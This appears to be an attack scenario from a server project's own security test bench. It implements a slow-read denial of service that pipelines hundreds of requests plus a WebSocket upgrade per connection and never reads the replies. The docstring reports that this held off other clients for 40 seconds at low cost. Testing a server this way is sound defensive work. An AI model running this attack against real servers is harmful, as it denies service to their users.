"""Answers that nobody reads, and then an upgrade.

A client leaves the answers of a kept-alive connection unread until the kernel takes no more, then asks for a
WebSocket. The 101 could not be written, and the handshake held one of sixteen places: at three connections a
second nobody else got in for 40 s, at 6 % CPU.
"""

from collections import Counter
from functools import partial

import trio

from bench.attack.harness import Report
from bench.attack.tools import ATTACKERS, UPGRADE, Target, connect, crowd, request

NUMBER = "12.3"
_RATE = 3  # connections a second
_PIPELINED = 400


async def attack(target: Target, seconds: float) -> dict[str, int]:
    return await crowd(int(seconds * _RATE) + 1, seconds, partial(_hold, target))


async def _hold(target: Target, number: int, counts: Counter[str]) -> None:
    await trio.sleep(number / _RATE)
    async with await connect(target, ATTACKERS[0]) as stream:
        asked = request(target, "/web/peershare.js") * _PIPELINED + request(target, "/ws", **UPGRADE)
        await stream.send_all(asked)
        counts["asked"] += 1
        await trio.sleep_forever()


def check(report: Report) -> None:
    """The harness lets newcomers in meanwhile; here is only that there was an attack."""
    assert report.counts.get("asked", 0) + report.counts.get("closed", 0) > 0
